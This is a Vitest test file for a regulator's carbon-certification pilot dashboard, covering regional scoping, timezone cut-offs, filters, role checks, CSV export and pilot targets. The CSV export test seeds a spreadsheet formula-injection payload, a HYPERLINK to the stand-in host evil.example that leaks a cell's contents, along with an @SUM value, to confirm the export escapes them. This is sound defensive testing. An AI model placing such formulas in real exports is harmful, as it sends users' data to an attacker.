import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/db";
import { applications, organizations, pilotTargets } from "@/db/schema";
import { ForbiddenError } from "@/lib/errors";
import { createPilotTargetAction } from "@/lib/actions/regulator/create-pilot-target";
import { getCurrentUser, type CurrentUser } from "@/lib/auth/current-user";
import { pilotDashboard, pilotTargetsProgress } from "@/lib/dal/regulator-overview";
import { GET as exportCsv } from "@/app/(site)/regulator/export/route";
import { actAs, createApplication, createUser } from "../support/factories";
import { createCertificate, createRegion } from "../support/regulator-fixtures";

type Pilot = Awaited<ReturnType<typeof createRegion>>;
let north: Pilot;
let south: Pilot;

async function asCurrent(user: Parameters<typeof actAs>[0]): Promise<CurrentUser> {
  actAs(user);
  const current = await getCurrentUser();
  if (!current) throw new Error("no session");
  return current;
}

beforeAll(async () => {
  north = await createRegion("910000", "910101");
  south = await createRegion("920000", "920101");
  await createCertificate(north, { value: "300", categoryId: "laptop", grade: 2 });
  await createCertificate(north, { value: "900", categoryId: "cement", grade: 4, status: "suspended" });
  await createCertificate(north, { value: "280", categoryId: "laptop", grade: 1, expiresOn: "2024-01-01" });
  await createCertificate(south, { value: "310", categoryId: "laptop", grade: 3, status: "withdrawn" });
});

describe("pilot dashboard", () => {
  it("cuts a period at midnight in Asia/Shanghai, not UTC", async () => {
    const east = await createRegion("930000", "930101");
    const application = await createApplication(east.enterprise.id);
    // 17:00 UTC on 31 January is 01:00 on 1 February in Chongqing.
    await db.update(applications).set({ createdAt: new Date("2026-01-31T17:00:00Z") }).where(eq(applications.id, application.id));
    const regulator = await asCurrent(east.regulator);
    const drafts = async (from: string, to: string) =>
      (await pilotDashboard(regulator, { from, to })).funnel.find((row) => row.status === "draft")?.count;
    expect(await drafts("2026-02-01", "2026-02-01")).toBe(1);
    expect(await drafts("2026-01-31", "2026-01-31")).toBe(0);
  });

  it("shows the bureau's region only, with expiry derived from the date", async () => {
    const dashboard = await pilotDashboard(await asCurrent(north.regulator), {});
    expect(dashboard.enterprises).toBe(1);
    expect(dashboard.certificates).toEqual({ valid: 1, suspended: 1, withdrawn: 0, expired: 1, total: 3 });
    expect(dashboard.funnel.find((row) => row.status === "certified")?.count).toBe(3);
    expect(dashboard.labelsPerMonth).toEqual([{ month: "2026-03", count: 3 }]);
    expect(dashboard.stageDurations).toEqual([{ stage: "in_review", transitions: 3, medianDays: "10.0", p90Days: "10.0" }]);
    // Per-category medians, not a sum over products: laptops 280 and 300 give 290; the one cement certificate its own value.
    const onlyProduction = (median: string, certificates: number) => ({
      raw_material: null,
      production: { median, certificates },
      distribution: null,
      use: null,
      end_of_life: null,
    });
    expect(dashboard.stageMedians).toEqual([
      { categoryId: "cement", stages: onlyProduction("900", 1) },
      { categoryId: "laptop", stages: onlyProduction("290", 2) },
    ]);
    expect(dashboard.bodies).toEqual([expect.objectContaining({ id: north.body.id, applications: 3, certificates: 3 })]);

    const other = await pilotDashboard(await asCurrent(south.regulator), {});
    expect(other.certificates).toEqual({ valid: 0, suspended: 0, withdrawn: 1, expired: 0, total: 1 });
    expect(other.bodies.map((body) => body.id)).toEqual([south.body.id]);
  });

  it("filters by category, district and period", async () => {
    const user = await asCurrent(north.regulator);
    const laptops = await pilotDashboard(user, { category: "laptop" });
    expect(laptops.certificates.total).toBe(2);
    expect(laptops.grades).toEqual([
      { categoryId: "laptop", grade: 1, count: 1 },
      { categoryId: "laptop", grade: 2, count: 1 },
    ]);
    expect(laptops.footprints).toEqual([expect.objectContaining({ categoryId: "laptop", certificates: 2, median: "290" })]);
    expect((await pilotDashboard(user, { district: "910199" })).certificates.total).toBe(0);
    expect((await pilotDashboard(user, { from: "2026-04-01" })).certificates.total).toBe(0);
    expect((await pilotDashboard(user, { from: "2026-03-15", to: "2026-03-15" })).certificates.total).toBe(3);
  });

  it.each(["enterprise", "verifier", "reviewer", "admin"] as const)("refuses a %s", async (role) => {
    const user = await asCurrent(await createUser(role));
    await expect(pilotDashboard(user, {})).rejects.toBeInstanceOf(ForbiddenError);
    await expect(pilotTargetsProgress(user)).rejects.toBeInstanceOf(ForbiddenError);
  });
});

describe("CSV export route", () => {
  const request = (query = "") => new Request(`http://localhost/regulator/export${query}`);

  it("exports the filtered figures of the regulator's own region", async () => {
    actAs(north.regulator);
    const response = await exportCsv(request("?category=laptop"));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toContain("text/csv");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // BOM: Excel reads the Chinese names right
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith("section,key,sub_key,value")).toBe(true);
    expect(text).toContain("filter,category,,laptop");
    expect(text).toContain("certificates,total,,2");
    expect(text).toContain("median_emissions_by_life_cycle_stage,laptop,production.certificates,2");
    expect(text).toContain("median_emissions_by_life_cycle_stage,laptop,production.median_kg_co2e_per_declared_unit,290");
    expect(text).not.toContain("emissions_by_life_cycle_stage,laptop,raw_material");
    expect(text).not.toContain("cement");
  });

  it("writes no formula: a reflected filter is dropped, a stored name is escaped (issue 11, defect 12)", async () => {
    await db.update(organizations).set({ nameEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Body")' }).where(eq(organizations.id, north.body.id));
    actAs(north.regulator);
    const response = await exportCsv(request(`?category=${encodeURIComponent('=HYPERLINK("http://evil.example","x")')}&district=${encodeURIComponent("@SUM(1)")}`));
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(text).toContain("filter,category,,\r\n");
    expect(text).not.toContain("evil.example\",\"x");
    expect(text).toContain(`verification_body,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Body"")",applications`);
    for (const cell of text.split(/\r\n/).flatMap((line) => line.split(","))) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
  });

  it("refuses the anonymous, enterprises and verifiers", async () => {
    actAs(null);
    expect((await exportCsv(request())).status).toBe(401);
    actAs(north.enterpriseUser);
    expect((await exportCsv(request())).status).toBe(403);
    actAs(north.verifier);
    expect((await exportCsv(request())).status).toBe(403);
  });
});

describe("pilot targets", () => {
  const input = { title: "50 laptops certified", categoryId: "laptop", metric: "certificates_issued", targetCount: 50, deadline: "2030-12-31" } as const;

  it("are set by the regulator for its own region and show progress", async () => {
    actAs(north.regulator);
    const result = await createPilotTargetAction(input);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const [row] = await db.select().from(pilotTargets).where(eq(pilotTargets.id, result.data.id));
    expect(row).toMatchObject({ region: "910000", regulatorId: north.bureau.id, categoryId: "laptop" });
    const progress = await pilotTargetsProgress(await asCurrent(north.regulator));
    expect(progress).toEqual([expect.objectContaining({ title: input.title, achieved: 2, targetCount: 50, deadline: "2030-12-31" })]);
    expect(await pilotTargetsProgress(await asCurrent(south.regulator))).toEqual([]);
  });

  it("refuses bad input next to the field", async () => {
    actAs(north.regulator);
    const result = await createPilotTargetAction({ ...input, targetCount: 0, deadline: "soon" });
    expect(result).toMatchObject({ ok: false, fieldErrors: { targetCount: expect.any(Array), deadline: ["validation.date"] } });
  });

  it.each(["enterprise", "verifier", "reviewer", "admin"] as const)("refuses a %s", async (role) => {
    actAs(await createUser(role));
    expect(await createPilotTargetAction(input)).toEqual({ ok: false, message: "errors.forbidden" });
  });

  it("refuses the anonymous", async () => {
    actAs(null);
    expect(await createPilotTargetAction(input)).toEqual({ ok: false, message: "errors.unauthenticated" });
  });
});
